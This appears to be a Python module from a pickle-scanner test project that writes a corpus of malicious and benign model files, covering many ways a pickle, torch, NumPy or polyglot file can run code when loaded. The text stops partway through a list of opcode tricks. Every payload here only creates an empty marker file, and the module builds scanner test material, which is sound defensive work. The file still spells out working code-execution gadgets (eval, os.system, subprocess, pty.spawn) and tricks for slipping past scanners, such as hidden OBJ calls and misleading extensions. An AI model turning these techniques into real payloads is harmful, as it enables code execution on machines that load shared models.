"""A corpus of model files that run code when loaded, and benign look-alikes.

`write_scanner_corpus(directory, marker)` writes one file per attack
technique that the test suites of the three best-known pickle scanners
exercise -- protectai/modelscan, trailofbits/fickling and
mmaitre314/picklescan -- plus direct variants of them, and benign controls
that a scanner must not name. It returns a `CorpusFile` record for each:
what the technique is, which peer suites exercise it and where (`sources`,
``repo:path``), whether the file is malicious, and its container (a plain
pickle, a ``torch.save`` zip, a legacy torch stream, a pre-0.4 tar, a
TorchScript archive, another zip, a NumPy file, a polyglot...).
``check`` must name every malicious file as one that can run code;
``scripts/peer_scanners.py`` measures the peer scanners on the same files.

Safety rules, which `tests/test_scanner_corpus_safety.py` checks:

* Every payload, if it ever ran, would only create `marker` (an empty file):
  ``touch MARKER`` through a shell, ``open(MARKER, 'a').close()`` through a
  Python evaluator, or a file-creating call such as ``_io.FileIO(MARKER,
  'a')``. Nothing else is written, deleted or sent anywhere; no payload
  touches the network.
* Nothing here ever unpickles or loads anything: pickle bytes are written
  opcode by opcode (`Ref`, `Call` and `Build` trees rendered by `dumps`, or
  literal opcodes), or by ``pickle``/``torch.save``/``numpy.save`` from
  objects whose ``__reduce__`` names the payload. ``pickletools.genops``,
  which only parses, finds where the pickles of a legacy torch stream end.
  torch is used only to make real containers (``torch.save`` zips and legacy
  streams, TorchScript archives of tiny modules) whose records are then
  replaced or extended with `zipfile`.

Several gadgets exist only in some Python, NumPy or torch versions (the
technique line says which); a payload that needs marshal bytes is tied to
the Python that wrote it. A file is malicious when some environment's
ordinary loader (``torch.load(weights_only=False)``, ``pickle.load``,
``numpy.load(allow_pickle=True)``, ``torch.jit.load``) would run its payload,
or when it carries a payload pickle that a loader of its container
unpickles (an extra ``.pkl`` record, a zip of pickles); the technique line
says which loader.

The marker path must be ASCII (the protocol-0 ``STRING`` opcode is ASCII).
Not pytest-specific, like `tests/hostile_files.py`.
"""

from __future__ import annotations

import functools
import io
import json
import marshal
import pickle
import pickletools
import shlex
import struct
import tarfile
import warnings
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Callable, Optional

__all__ = [
    "BENIGN_COUNT",
    "CONTAINERS",
    "MALICIOUS_COUNT",
    "PEERS",
    "Build",
    "Call",
    "CorpusFile",
    "Raw",
    "Ref",
    "dumps",
    "write_scanner_corpus",
]

MS, FK, PS = "modelscan", "fickling", "picklescan"
#: The peer scanners whose test suites the corpus re-implements.
PEERS = (MS, FK, PS)
#: What holds the payload (or the benign data).
CONTAINERS = (
    "pickle",  # a bare pickle stream, whatever the file's extension
    "torch_zip",  # a torch.save zip archive (PyTorch >= 1.6)
    "torch_legacy",  # the legacy torch.save stream: magic, protocol, sys info, object, keys, data
    "tar",  # a tar archive, e.g. the pre-0.4 torch layout (storages / tensors / pickle members)
    "torchscript",  # a torch.jit.save archive (code/ + constants.pkl + data.pkl)
    "zip_other",  # a zip that is not a torch archive (pickles or .npy inside)
    "numpy",  # a .npy file (header, then a pickle for object arrays)
    "polyglot",  # one file that is two formats at once
    "safetensors",  # a safetensors file
    "other",  # not a model at all (a PNG header, random bytes)
)
#: How many files `write_scanner_corpus` writes of each kind.
MALICIOUS_COUNT = 148
BENIGN_COUNT = 22

# Where the peers exercise a technique ("repo:path").
_PS_INIT = "mmaitre314/picklescan:tests/init_data_files.py"
_PS_TEST = "mmaitre314/picklescan:tests/test_scanner.py"
_MS_TEST = "protectai/modelscan:tests/test_modelscan.py"
_MS_UTILS = "protectai/modelscan:tests/test_utils.py"
_MS_INJECT = "protectai/modelscan:tests/pickle_utils/codeinjection.py"
_MS_CTYPES = "protectai/modelscan:tests/test_ctypes_blocklist.py"
_MS_MAILCAP = "protectai/modelscan:tests/test_pickle_unsafe_globals.py"
_FK_BYPASS = "trailofbits/fickling:test/test_bypasses.py"
_FK_ATTACK = "trailofbits/fickling:test/test_attack_vectors.py"
_FK_CVE = "trailofbits/fickling:test/test_cve_patterns.py"
_FK_ARCHIVE = "trailofbits/fickling:test/test_archive_scanning.py"
_FK_POLY = "trailofbits/fickling:test/test_polyglot.py"
_FK_POLYGLOT_SRC = "trailofbits/fickling:fickling/polyglot.py"
_FK_TORCH = "trailofbits/fickling:test/test_pytorch.py"
_FK_TORCH_SRC = "trailofbits/fickling:fickling/pytorch.py"
_FK_PICKLE = "trailofbits/fickling:test/test_pickle.py"
_FK_SCAN = "trailofbits/fickling:test/test_scan_api.py"
_FK_BENIGN = "trailofbits/fickling:test/test_benign_edge_cases.py"


@dataclass(frozen=True)
class CorpusFile:
    """One file of the corpus.

    `technique`: one line saying how the payload is carried and which loader
    runs it. `peers`: the scanners whose suites exercise the technique (or a
    direct variant); empty for the few extras ``check`` needs that no peer
    tests. `sources`: where (``repo:path``). `container`: one of `CONTAINERS`.
    """

    name: str
    path: Path
    technique: str
    peers: tuple[str, ...]
    malicious: bool
    container: str
    sources: tuple[str, ...] = ()


# -- a tiny pickle writer ---------------------------------------------------------


@dataclass(frozen=True)
class Ref:
    """A global the pickle names: GLOBAL below protocol 4, STACK_GLOBAL from 4 (never imported here).

    `opcode` forces ``"GLOBAL"`` or ``"STACK_GLOBAL"``; `fix_imports` writes
    ``builtins`` as ``__builtin__`` below protocol 3, as ``pickle`` does.
    """

    module: str
    name: str
    opcode: str = ""
    fix_imports: bool = True


@dataclass(frozen=True)
class Call:
    """``func(*args)`` at unpickling time (REDUCE)."""

    func: Any
    args: tuple = ()


@dataclass(frozen=True)
class Build:
    """``obj`` updated with `state` (BUILD: ``obj.__setstate__(state)`` or a ``__dict__`` update)."""

    obj: Any
    state: Any


@dataclass(frozen=True)
class Raw:
    """Opcodes written as they are."""

    data: bytes


def _unicode0(s: str) -> bytes:
    """The protocol-0 UNICODE opcode, escaped as ``pickle`` escapes it."""
    for char, escape in (("\\", "\\u005c"), ("\0", "\\u0000"), ("\n", "\\u000a"), ("\r", "\\u000d"), ("\x1a", "\\u001a")):
        s = s.replace(char, escape)
    return pickle.UNICODE + s.encode("raw-unicode-escape") + b"\n"


def _string0(s: str) -> bytes:
    """The protocol-0 STRING opcode (a quoted Python literal; ASCII only)."""
    return pickle.STRING + repr(s).encode("ascii") + b"\n"


def _sbu(s: str) -> bytes:
    """SHORT_BINUNICODE, or BINUNICODE for long strings."""
    raw = s.encode("utf-8")
    if len(raw) < 256:
        return pickle.SHORT_BINUNICODE + bytes([len(raw)]) + raw
    return pickle.BINUNICODE + struct.pack("<I", len(raw)) + raw


def _int(v: int, proto: int) -> bytes:
    if proto == 0:
        return b"I%d\n" % v
    if 0 <= v < 256:
        return pickle.BININT1 + bytes([v])
    if 0 <= v < 65536:
        return pickle.BININT2 + struct.pack("<H", v)
    if -(2**31) <= v < 2**31:
        return pickle.BININT + struct.pack("<i", v)
    if proto >= 2:
        raw = v.to_bytes((v.bit_length() + 8) // 8, "little", signed=True)
        return pickle.LONG1 + bytes([len(raw)]) + raw
    return b"I%d\n" % v


def _emit(v: Any, proto: int, out: bytearray) -> None:
    """Append the opcodes that push `v` onto the unpickler's stack."""
    if isinstance(v, Raw):
        out += v.data
    elif isinstance(v, Ref):
        module = "__builtin__" if v.fix_imports and proto < 3 and v.module == "builtins" else v.module
        if v.opcode == "STACK_GLOBAL" or (not v.opcode and proto >= 4):
            out += _sbu(module) + _sbu(v.name) + pickle.STACK_GLOBAL
        else:
            out += pickle.GLOBAL + f"{module}\n{v.name}\n".encode()
    elif isinstance(v, Call):
        _emit(v.func, proto, out)
        _emit(tuple(v.args), proto, out)
        out += pickle.REDUCE
    elif isinstance(v, Build):
        _emit(v.obj, proto, out)
        _emit(v.state, proto, out)
        out += pickle.BUILD
    elif v is None:
        out += pickle.NONE
    elif isinstance(v, bool):
        out += (pickle.NEWTRUE if v else pickle.NEWFALSE) if proto >= 2 else (pickle.TRUE if v else pickle.FALSE)
    elif isinstance(v, int):
        out += _int(v, proto)
    elif isinstance(v, float):
        out += pickle.BINFLOAT + struct.pack(">d", v) if proto >= 1 else b"F%r\n" % v
    elif isinstance(v, str):
        if proto == 0:
            out += _unicode0(v)
        elif proto >= 4:
            out += _sbu(v)
        else:
            raw = v.encode("utf-8")
            out += pickle.BINUNICODE + struct.pack("<I", len(raw)) + raw
    elif isinstance(v, bytes):
        if proto >= 3:
            out += (pickle.SHORT_BINBYTES + bytes([len(v)]) if len(v) < 256 else pickle.BINBYTES + struct.pack("<I", len(v))) + v
        else:  # what pickle writes for bytes below protocol 3
            _emit(Call(Ref("_codecs", "encode"), (v.decode("latin-1"), "latin1")), proto, out)
    elif isinstance(v, tuple):
        if not v:
            out += pickle.EMPTY_TUPLE if proto >= 1 else pickle.MARK + pickle.TUPLE
        elif proto >= 2 and len(v) <= 3:
            for item in v:
                _emit(item, proto, out)
            out += (pickle.TUPLE1, pickle.TUPLE2, pickle.TUPLE3)[len(v) - 1]
        else:
            out += pickle.MARK
            for item in v:
                _emit(item, proto, out)
            out += pickle.TUPLE
    elif isinstance(v, list):
        if proto == 0:
            out += pickle.MARK
            for item in v:
                _emit(item, proto, out)
            out += pickle.LIST
        else:
            out += pickle.EMPTY_LIST
            if v:
                out += pickle.MARK
                for item in v:
                    _emit(item, proto, out)
                out += pickle.APPENDS
    elif isinstance(v, dict):
        out += pickle.MARK if proto == 0 else pickle.EMPTY_DICT + (pickle.MARK if v else b"")
        for key, value in v.items():
            _emit(key, proto, out)
            _emit(value, proto, out)
        if proto == 0:
            out += pickle.DICT
        elif v:
            out += pickle.SETITEMS
    else:
        raise TypeError(f"cannot write {type(v).__name__} into a pickle")


def body(v: Any, proto: int) -> bytes:
    """The opcodes that push `v`, without PROTO or STOP."""
    out = bytearray()
    _emit(v, proto, out)
    return bytes(out)


def dumps(v: Any, proto: int = 2) -> bytes:
    """A complete pickle of `v` (a tree of `Ref`, `Call`, `Build`, `Raw` and plain values)."""
    head = pickle.PROTO + bytes([proto]) if proto >= 2 else b""
    return head + body(v, proto) + pickle.STOP


def _split_proto(data: bytes) -> tuple[bytes, bytes]:
    """(PROTO opcode or b"", the rest) of a pickle."""
    return (data[:2], data[2:]) if data[:1] == pickle.PROTO else (b"", data)


def _inject(data: bytes, payload: bytes, *, first: bool = True, pop: bool = True) -> bytes:
    """`data` (one pickle, no memo use in `payload`) with the `payload` opcodes run first or last.

    `pop`: discard the payload's result (the original object is still the
    result); without it the result stays on the stack -- under the original
    object when first, as the unpickling result when last.
    """
    head, rest = _split_proto(data)
    if not rest.endswith(pickle.STOP):
        raise ValueError("not a single pickle ending in STOP")
    tail = pickle.POP if pop else b""
    if first:
        return head + payload + tail + rest
    return head + rest[:-1] + payload + tail + pickle.STOP


# -- payloads: each only creates the marker ---------------------------------------


@dataclass(frozen=True)
class _Payload:
    marker: Path

    @property
    def sh(self) -> str:
        """A shell command that creates the marker."""
        return "touch " + shlex.quote(str(self.marker))

    @property
    def py(self) -> str:
        """A Python expression (also a statement) that creates the marker."""
        return f"open({str(self.marker)!r}, 'a').close()"

    @property
    def argv(self) -> list[str]:
        return ["touch", str(self.marker)]

    @property
    def path(self) -> str:
        return str(self.marker)

    def system(self, module: str = "posix") -> Call:
        return Call(Ref(module, "system"), (self.sh,))

    def eval(self) -> Call:
        return Call(Ref("builtins", "eval"), (self.py,))


class _ReduceTo:
    """Pickled by ``pickle``/``numpy.save`` as a call of `func` on `args` (never called here)."""

    def __init__(self, func: Callable[..., Any], args: tuple) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple:
        return (self.func, self.args)


def _namespace(**attrs: Any) -> Build:
    """A ``types.SimpleNamespace`` with `attrs`, for gadgets that read attributes of ``self``."""
    return Build(Call(Ref("types", "SimpleNamespace")), attrs)


# -- containers ------------------------------------------------------------------


def _zip(records: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as z:
        for name, data in records:
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = compression
            z.writestr(info, data)
    return out.getvalue()


def _zip_records(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [(info.filename, z.read(info)) for info in z.infolist()]


def _rezip(data: bytes, replace: Optional[dict[str, bytes]] = None, add: Optional[list[tuple[str, bytes]]] = None) -> bytes:
    """A zip's records with those whose name ends with a key of `replace` replaced, `add` appended."""
    replace = replace or {}
    records = []
    for name, old in _zip_records(data):
        new = next((v for suffix, v in replace.items() if name.endswith(suffix)), old)
        records.append((name, new))
    return _zip(records + (add or []))


def _record(data: bytes, suffix: str) -> bytes:
    return next(body for name, body in _zip_records(data) if name.endswith(suffix))


def _patch_central(data: bytes, suffix: str, patch: Callable[[bytearray, int], None], local: bool = False) -> bytes:
    """Apply `patch(buf, offset)` to the central-directory (or local) header of each record named ``*suffix``."""
    buf = bytearray(data)
    signature, name_len_at, name_at = (b"PK\x03\x04", 26, 30) if local else (b"PK\x01\x02", 28, 46)
    at = buf.find(signature)
    while at >= 0:
        n = struct.unpack_from("<H", buf, at + name_len_at)[0]
        if bytes(buf[at + name_at:at + name_at + n]).endswith(suffix.encode()):
            patch(buf, at)
        at = buf.find(signature, at + 4)
    return bytes(buf)


def _set_flag(bit: int) -> Callable[[bytearray, int], None]:
    def patch(buf: bytearray, at: int) -> None:  # general purpose flags: offset 8 in the central directory
        struct.pack_into("<H", buf, at + 8, struct.unpack_from("<H", buf, at + 8)[0] | bit)
    return patch


def _bad_crc(buf: bytearray, at: int) -> None:  # CRC-32: offset 16 in the central directory
    struct.pack_into("<I", buf, at + 16, struct.unpack_from("<I", buf, at + 16)[0] ^ 0xFFFFFFFF)


def _local_name_datap(buf: bytearray, at: int) -> None:
    n = struct.unpack_from("<H", buf, at + 26)[0]
    buf[at + 30 + n - 8:at + 30 + n] = b"datap.kl"


def _replace_stored_record(data: bytes, suffix: str, new: Callable[[bytes], bytes]) -> bytes:
    """`data` with the stored (uncompressed) records named ``*suffix`` rewritten in place, same length, CRCs fixed."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        infos = [i for i in z.infolist() if i.filename.endswith(suffix) and i.compress_type == zipfile.ZIP_STORED]
    buf = bytearray(data)
    for info in infos:
        at = info.header_offset
        name_len, extra_len = struct.unpack_from("<HH", buf, at + 26)
        start = at + 30 + name_len + extra_len
        old = bytes(buf[start:start + info.compress_size])
        replacement = new(old)
        if len(replacement) != len(old):
            raise ValueError("an in-place record must keep its length")
        buf[start:start + len(old)] = replacement
        crc = zlib.crc32(replacement)
        if info.flag_bits & 0x8:  # the CRC is in a data descriptor after the data (torch writes those)
            descriptor = start + len(old)
            descriptor += 4 if buf[descriptor:descriptor + 4] == b"PK\x07\x08" else 0
            struct.pack_into("<I", buf, descriptor, crc)
        else:
            struct.pack_into("<I", buf, at + 14, crc)

        def central_crc(b: bytearray, cd: int, crc: int = crc) -> None:
            struct.pack_into("<I", b, cd + 16, crc)

        buf = bytearray(_patch_central(bytes(buf), info.filename, central_crc))
    return bytes(buf)


def _tar(members: list[tuple[str, bytes]], mode: str = "w") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode, format=tarfile.PAX_FORMAT) as tar:  # type: ignore[call-overload]
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), 0, 0o644
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _gzip_tar(members: list[tuple[str, bytes]]) -> bytes:
    import gzip

    raw = _tar(members)
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0) as gz:
        gz.write(raw)
    return out.getvalue()


def _split_pickles(data: bytes, count: int) -> tuple[list[bytes], bytes]:
    """The first `count` pickles of a stream and what follows them (parsed with pickletools, never loaded)."""
    pickles, at = [], 0
    for _ in range(count):
        end = next(at + (pos or 0) + 1 for op, _arg, pos in pickletools.genops(data[at:]) if op.name == "STOP")
        pickles.append(data[at:end])
        at = end
    return pickles, data[at:]


def _renumber_storage_keys(legacy: bytes) -> bytes:
    """A legacy torch stream with its storage keys (memory addresses) renamed "0", "1", ... in order.

    The keys appear as strings in the object pickle's persistent IDs and in
    the key list pickle. With several storages their order (and so the data
    order) follows memory addresses, so only one storage is allowed.
    """
    pickles, rest = _split_pickles(legacy, 5)
    keys = [arg for op, arg, _ in pickletools.genops(pickles[4]) if isinstance(arg, str) and "UNICODE" in op.name]
    if len(keys) > 1:
        raise ValueError("key order follows memory addresses: save objects whose tensors share one storage")
    names = {key: str(i) for i, key in enumerate(keys)}

    def rename(data: bytes) -> bytes:
        ops = list(pickletools.genops(data))
        out, at = bytearray(), 0
        for i, (op, arg, pos) in enumerate(ops):
            if isinstance(arg, str) and "UNICODE" in op.name and arg in names and pos is not None:
                end = ops[i + 1][2] if i + 1 < len(ops) else len(data)
                out += data[at:pos] + pickle.BINUNICODE + struct.pack("<I", len(names[arg])) + names[arg].encode()
                at = end or len(data)
        return bytes(out + data[at:])

    return b"".join(pickles[:3]) + rename(pickles[3]) + rename(pickles[4]) + rest


def _npy(header: dict, payload: bytes) -> bytes:
    """A version 1.0 .npy file: magic, header (padded to 64 bytes), data."""
    text = repr(header).encode("latin-1")
    pad = 64 - (10 + len(text) + 1) % 64
    text += b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + payload


def _safetensors(tensors: dict[str, tuple[str, list[int], bytes]]) -> bytes:
    header: dict[str, Any] = {"__metadata__": {"format": "pt"}}
    blob, at = b"", 0
    for name, (dtype, shape, data) in tensors.items():
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [at, at + len(data)]}
        blob += data
        at += len(data)
    text = json.dumps(header, separators=(",", ":")).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + blob


# -- torch-made containers --------------------------------------------------------


def _torch_save(obj: Any, legacy: bool = False) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=not legacy)
    if legacy:  # legacy streams name storages by memory address
        return _renumber_storage_keys(buf.getvalue())
    return _replace_stored_record(buf.getvalue(), "/.data/serialization_id", lambda old: b"0" * len(old))


def _state_dict() -> dict:
    """weight and bias as views of one storage: the legacy stream then has one storage key, its name reproducible."""
    import torch

    flat = torch.arange(10, dtype=torch.float32) / 4
    return {"weight": flat[:8].view(2, 4), "bias": flat[8:]}


def _checkpoint() -> dict:
    """A training checkpoint: model and optimizer state after one deterministic step."""
    import torch

    model = torch.nn.Linear(4, 2)
    with torch.no_grad():
        model.weight.copy_(torch.arange(8, dtype=torch.float32).reshape(2, 4) / 10)
        model.bias.zero_()
    optimizer = torch.optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
    loss = model(torch.ones(3, 4)).pow(2).sum()
    loss.backward()
    optimizer.step()
    return {"epoch": 1, "model": model.state_dict(), "optimizer": optimizer.state_dict(), "loss": float(loss.detach())}


@functools.cache
def _torchscript_classes() -> dict[str, type]:
    """Tiny modules for TorchScript archives (defined once per process so jit never renames them)."""
    import torch

    class TinyLinear(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()  # plain parameters: nn.Linear's constants come out in hash order
            self.weight = torch.nn.Parameter(torch.arange(6, dtype=torch.float32).reshape(2, 3) / 10)
            self.bias = torch.nn.Parameter(torch.zeros(2))

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.relu(x @ self.weight.t() + self.bias)

    class LoadTimeFileCreate(torch.nn.Module):
        """Its TorchScript ``__setstate__``, which torch.jit.load runs, creates a file with torch.from_file."""

        def __init__(self, path: str) -> None:
            super().__init__()
            self.path = path
            self.blob = torch.zeros(1)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + self.blob

        @torch.jit.export
        def __getstate__(self) -> tuple[str, torch.Tensor, bool]:
            return (self.path, self.blob, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[str, torch.Tensor, bool]) -> None:
            self.path = state[0]
            self.training = state[2]
            self.blob = torch.from_file(self.path, True, 1)

    class CallTimeFileCreate(torch.nn.Module):
        """Its TorchScript ``forward`` creates a file with torch.from_file when the model is called."""

        def __init__(self, path: str) -> None:
            super().__init__()
            self.path = path

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + torch.from_file(self.path, True, 1)

    return {"tiny": TinyLinear, "load_time": LoadTimeFileCreate, "call_time": CallTimeFileCreate}


def _torchscript(kind: str, *args: Any) -> bytes:
    import torch

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # torch.jit.script is deprecated; it is what these files are
        module = _torchscript_classes()[kind](*args)
        buf = io.BytesIO()
        torch.jit.save(torch.jit.script(module), buf)
    # torch.jit.save draws a random serialization id; a fixed one keeps the corpus reproducible
    return _replace_stored_record(buf.getvalue(), "/.data/serialization_id", lambda old: b"0" * len(old))


# -- the corpus -------------------------------------------------------------------


class _Corpus:
    def __init__(self, directory: Path) -> None:
        self.directory = directory
        self.files: list[CorpusFile] = []

    def add(self, name: str, data: bytes, technique: str, peers: tuple[str, ...], container: str,
            sources: tuple[str, ...] = (), malicious: bool = True) -> Path:
        if any(f.name == name for f in self.files):
            raise ValueError(f"duplicate corpus file name {name}")
        if container not in CONTAINERS or any(p not in PEERS for p in peers):
            raise ValueError(f"{name}: bad container or peer")
        path = self.directory / name
        path.write_bytes(data)
        self.files.append(CorpusFile(name, path, technique, peers, malicious, container, sources))
        return path


def write_scanner_corpus(directory: Path, marker: Path) -> list[CorpusFile]:
    """Write the corpus into `directory`; every payload would only create `marker`.

    The same `directory` and `marker` give the same bytes every time. Never
    loads or unpickles anything (the marker stays absent).
    """
    directory = Path(directory)
    marker = Path(marker)
    if not str(marker).isascii():
        raise ValueError(f"the marker path must be ASCII: {marker}")
    directory.mkdir(parents=True, exist_ok=True)
    c = _Corpus(directory)
    p = _Payload(marker)
    _plain_pickles(c, p)
    _opcode_tricks(c, p)
    _resolvers(c, p)
    _exec_gadgets(c, p)
    _process_and_file_gadgets(c, p)
    _torch_gadgets(c, p)
    _numpy_files(c, p)
    _zips(c, p)
    _torch_zips(c, p)
    _legacy_streams(c, p)
    _tars(c, p)
    _polyglots(c, p)
    _torchscripts(c, p)
    _benign(c)
    return c.files


def _plain_pickles(c: _Corpus, p: _Payload) -> None:
    """The classic REDUCE payloads in every protocol, and the file-name tricks."""
    for proto in range(6):
        how = "STACK_GLOBAL" if proto >= 4 else "GLOBAL __builtin__" if proto < 3 else "GLOBAL"
        c.add(f"eval_p{proto}.pkl", dumps(p.eval(), proto),
              f"builtins.eval(code) by REDUCE, protocol {proto} ({how})",
              (MS, FK, PS) if proto in (0, 3, 4) else (FK,), "pickle",
              (_PS_INIT + " Malicious1 v0/v3/v4", _MS_TEST + " malicious1_v*", _FK_ATTACK + " test_builtins_eval"))
    for proto in (0, 3, 4):
        c.add(f"posix_system_p{proto}.pkl", dumps(p.system(), proto),
              f"posix.system(cmd) (how pickle writes os.system) by REDUCE, protocol {proto}", (MS, FK, PS), "pickle",
              (_PS_INIT + " Malicious2", _MS_TEST + " malicious2_v*", _FK_ATTACK + " test_os_system"))
    c.add("os_system_p2.pkl", dumps(p.system("os"), 2), "os.system(cmd) named through the os module, protocol 2",
          (FK, PS), "pickle", (_FK_ATTACK + " test_os_system", _PS_INIT + " malicious23 / keyerror-exploit"))
    c.add("nt_system_p2.pkl", dumps(p.system("nt"), 2),
          "nt.system(cmd): os.system as pickled on Windows (runs there only)", (PS,), "pickle",
          (_PS_TEST + " test_scan_url expects Global(os.name, 'system')",))
    c.add("exec_p2.pkl", dumps(Call(Ref("builtins", "exec"), (p.py,)), 2), "builtins.exec(code) by REDUCE, protocol 2",
          (MS, FK), "pickle", (_FK_ATTACK + " test_builtins_exec", _MS_INJECT + " ExecInject"))
    c.add("compile_then_eval_p1.pkl", dumps(Call(Ref("builtins", "eval"), (Call(Ref("builtins", "compile"), (p.py, "<x>", "exec")),)), 1),
          "builtins.eval(builtins.compile(code, ..., 'exec')), protocol 1", (FK, PS, MS), "pickle",
          (_FK_ATTACK + " test_builtins_compile", _PS_INIT + " malicious0"))
    c.add("import_then_getattr_p3.pkl",
          dumps(Call(Call(Ref("builtins", "getattr"), (Call(Ref("builtins", "__import__"), ("os",)), "system")), (p.sh,)), 3),
          "builtins.getattr(builtins.__import__('os'), 'system')(cmd)", (FK, PS), "pickle",
          (_FK_ATTACK + " test_builtins_import / test_builtins_getattr", _PS_INIT + " malicious12"))
    c.add("getattr_builtins_eval_p4.pkl",
          dumps(Call(Call(Ref("builtins", "getattr"), (Call(Ref("builtins", "__import__"), ("builtins",)), "eval")), (p.py,)), 4),
          "builtins.getattr(builtins module, 'eval')(code): eval never named as a global", (FK,), "pickle",
          (_FK_BYPASS + " test_unsafe_builtins_still_flagged",))
    c.add("subprocess_run_p4.pkl", dumps(Call(Ref("subprocess", "run"), (p.argv,)), 4), "subprocess.run(argv), protocol 4",
          (MS, FK, PS), "pickle", (_PS_INIT + " Malicious7", _MS_TEST + " malicious8", _FK_ATTACK + " test_subprocess_run"))
    c.add("subprocess_popen_p2.pkl", dumps(Call(Ref("subprocess", "Popen"), (p.argv,)), 2), "subprocess.Popen(argv), protocol 2",
          (FK,), "pickle", (_FK_ATTACK + " test_subprocess_popen", _FK_CVE + " test_submodule_bypass_subprocess_internal"))
    c.add("subprocess_call_p0.pkl", dumps(Call(Ref("subprocess", "call"), (p.argv,)), 0), "subprocess.call(argv), protocol 0",
          (FK,), "pickle", (_FK_ATTACK + " test_subprocess_call",))
    c.add("subprocess_check_output_p3.pkl", dumps(Call(Ref("subprocess", "check_output"), (p.argv,)), 3),
          "subprocess.check_output(argv), protocol 3", (FK,), "pickle", (_FK_ATTACK + " test_subprocess_check_output",))
    c.add("os_popen_p1.pkl", dumps(Call(Ref("os", "popen"), (p.sh,)), 1), "os.popen(cmd), protocol 1", (FK,), "pickle",
          (_FK_ATTACK + " test_os_popen",))
    c.add("posix_execv_p2.pkl", dumps(Call(Ref("posix", "execv"), ("/bin/sh", ["sh", "-c", p.sh])), 2),
          "posix.execv('/bin/sh', [..., cmd]): the loading process becomes the command", (FK,), "pickle",
          (_FK_ATTACK + " test_os_execv",))
    c.add("pty_spawn_build_p4.pkl", dumps(Build(Call(Ref("pty", "spawn"), (p.argv,)), "gottem"), 4),
          "pty.spawn(argv), then a BUILD on its result (fails after the command ran)", (FK, PS), "pickle",
          (_FK_BYPASS + " test_missing_pty_unsafe_imports_ghsa", _PS_INIT + " GHSA-vqmv-47xg-9wpr", _FK_ATTACK + " test_pty_spawn"))
    # CVE-2025-10155: the extension says it is not a pickle
    for name, value, tests in (
        ("payload_named.bin", p.system(), "test_extension_agnostic_detection_bin"),
        ("payload_named.pth", p.eval(), "test_extension_agnostic_detection_pth"),
        ("payload_named.txt", Call(Ref("pty", "spawn"), (p.argv,)), "test_extension_agnostic_detection_misleading_txt"),
        ("payload_no_extension", Call(Ref("subprocess", "call"), (p.argv,)), "test_extension_agnostic_detection_no_extension"),
    ):
        c.add(name, dumps(value, 4), f"a plain payload pickle whose name says otherwise ({name})", (FK, PS), "pickle",
              (_FK_CVE + " " + tests, _PS_INIT + " malicious1_wrong_ext"))
    c.add("notes_p0.txt", dumps(p.system(), 0),
          "a protocol-0 payload pickle (printable text lines) named .txt", (FK, PS), "pickle",
          (_FK_CVE + " test_extension_agnostic_detection_misleading_txt", _PS_INIT + " malicious2_v0"))
    c.add("eval_p4.dill", dumps(p.eval(), 4), "builtins.eval payload as dill writes it (a .dill file is a pickle)", (MS,),
          "pickle", (_MS_TEST + " malicious1_v*.dill",))


def _opcode_tricks(c: _Corpus, p: _Payload) -> None:
    """Opcode-level tricks: INST/OBJ/NEWOBJ, memo games, dotted names, injection, broken streams."""
    c.add("inst_exec_p0.pkl", pickle.MARK + _string0(p.py) + pickle.INST + b"__builtin__\nexec\n" + pickle.STOP,
          "INST opcode instantiating __builtin__.exec(code) (no REDUCE at all)", (MS, PS), "pickle",
          (_PS_INIT + " malicious10", _MS_TEST + " malicious10"))
    sour = (b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(" + _string0(p.py) + b"S''\nS'exec'\ntRp101\n0"
            b"c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0"
            b"c__builtin__\napply\n(g103\n(g100\nS'picklesmashed'\nltRp104\n0g104\n.")
    c.add("sour_pickles_p0.pkl", sour,
          "'Sour Pickles' (BlackHat 2011): compile + eval(code, globals()) through memo PUT/GET, then __builtin__.apply",
          (MS, PS), "pickle", (_PS_INIT + " malicious0", _MS_TEST + " malicious0"))
    c.add("obj_pty_spawn_p2.pkl",
          pickle.PROTO + b"\x02" + pickle.MARK + pickle.GLOBAL + b"pty\nspawn\n" + body(p.argv, 2) + pickle.OBJ + pickle.STOP,
          "OBJ opcode calling pty.spawn(argv)", (FK,), "pickle", (_FK_BYPASS + " test_missing_pty_unsafe_imports_pr",))
    c.add("obj_then_pop_p4.pkl",
          pickle.PROTO + b"\x04" + pickle.MARK + _sbu("posix") + _sbu("system") + pickle.STACK_GLOBAL + _sbu(p.sh)
          + pickle.OBJ + pickle.POP + pickle.NONE + pickle.STOP,
          "OBJ call whose result is POPped: the call leaves no trace in the result (fickling GHSA-mxhj-88fx-4pcv)", (FK,), "pickle",
          (_FK_BYPASS + " test_obj_pop_call_invisibility",))
    memo_decoy = [pickle.UNICODE + b"os\n", pickle.PUT + b"2\n", pickle.POP, pickle.UNICODE + b"system\n", pickle.PUT + b"3\n",
                  pickle.POP, pickle.UNICODE + b"torch\n", pickle.PUT + b"0\n", pickle.POP, pickle.UNICODE + b"LongStorage\n",
